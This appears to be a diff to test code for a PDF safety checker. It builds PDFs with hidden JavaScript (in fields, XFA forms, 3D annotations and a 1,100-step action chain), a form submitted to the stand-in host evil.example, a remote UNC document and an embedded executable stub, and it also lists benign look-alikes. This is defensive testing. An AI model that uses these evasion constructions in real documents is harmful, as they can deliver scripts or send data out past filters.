@@ -78,13 +78,74 @@ def linking(**more):
     return change
 
 
+def far_behind(document):
+    action = document.make_indirect(script())
+    for _ in range(1_100):
+        action = document.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage, Next=action))
+    document.Root.OpenAction = action
+
+
+def xfa(content, *, in_parts=False):
+    def change(document):
+        stream = document.make_stream(content)
+        held = Array([pikepdf.String("template"), stream]) if in_parts else stream
+        document.Root.AcroForm = document.make_indirect(Dictionary(Fields=Array([]), XFA=held))
+
+    return change
+
+
+def beside(holder):
+    """A file held beside the document or a page (PDF/A-3), not in the list of attached ones."""
+
+    def change(document):
+        held = document.Root if holder == "document" else document.pages[0].obj
+        file = Dictionary(F=document.make_stream(b"MZ"))
+        held.AF = Array([Dictionary(Type=Name.Filespec, F=pikepdf.String("a.exe"), EF=file)])
+
+    return change
+
+
+def called_a_field(document):
+    put(document, annotation(FT=Name.Tx, A=script()))
+
+
+def page_called_a_field(document):
+    document.pages[0].obj.FT = Name.Tx
+    document.pages[0].obj.AA = Dictionary(C=script())
+
+
+def drawn_in_space(document):
+    drawing = document.make_stream(b"PRC", Type=Name("/3D"), OnInstantiate=document.make_stream(b"run()"))
+    put(document, Dictionary({"/Subtype": Name("/3D"), "/3DD": drawing}))
+
+
+def address():
+    return Dictionary(S=Name.URI, URI=pikepdf.String("http://evil.example"))
+
+
 SCRIPTS, LAUNCHES, CALLS, FILES = (
     "it holds scripts",
     "it starts other programs",
     "web addresses by itself",
     "other files",
 )
+SENDS = "links that send or fetch data"
 REFUSED = {
+    "script of a link called a field": (called_a_field, SCRIPTS),
+    "script of a page called a field": (page_called_a_field, SCRIPTS),
+    "script behind a thousand steps": (far_behind, "more than can be looked through"),
+    "script of an XFA form": (xfa(b"<event><script>x</script></event>"), SCRIPTS),
+    "script of an XFA form in parts": (xfa(b"<x:script contentType='a'>x</x:script>", in_parts=True), SCRIPTS),
+    "script of a drawing in space": (drawn_in_space, SCRIPTS),
+    "script of a link's earlier action": (lambda document: put(document, annotation(PA=script())), SCRIPTS),
+    "address when pointed at": (field("E", address), CALLS),
+    "form sent by a link": (linking(S=Name.SubmitForm, F=pikepdf.String("http://evil.example")), SENDS),
+    "data fetched by a link": (linking(S=Name.ImportData, F=pikepdf.String("a.fdf")), SENDS),
+    "document on another computer": (linking(S=Name.GoToR, F=pikepdf.String("\\\\evil\\a.pdf")), SENDS),
+    "document within another": (linking(S=Name.GoToE, F=pikepdf.String("a.pdf")), SENDS),
+    "file beside the document": (beside("document"), FILES),
+    "file beside a page": (beside("page"), FILES),
+    "rich media": (lambda document: put(document, Dictionary(Subtype=Name.RichMedia)), FILES),
     "script when opened": (opens(script), SCRIPTS),
     "script after another step": (opens(lambda: Dictionary(S=Name.GoTo, Next=Array([script()]))), SCRIPTS),
     "script when closed": (on("document", "WC", script), SCRIPTS),
@@ -103,6 +164,10 @@ REFUSED = {
     "file pinned to a page": (lambda document: put(document, Dictionary(Subtype=Name.FileAttachment)), FILES),
 }  # fmt: skip
 TAKEN = {
+    "link to another document": linking(S=Name.GoToR, F=pikepdf.String("appendix.pdf")),
+    "XFA form without scripts": xfa(b"<template><subform name='scripts'/></template>"),
+    "address when a field is pressed": field("U", address),
+    "script when a field is pressed": field("D", script),
     "link to a page named Launch": linking(S=Name.URI, URI=pikepdf.String("https://example.org/Launch")),
     "place named Launch": lambda document: put(document, annotation(Dest=Name.Launch)),
     "title of JavaScript": lambda document: document.docinfo.__setitem__("/Title", "/JavaScript /Launch /OpenAction"),
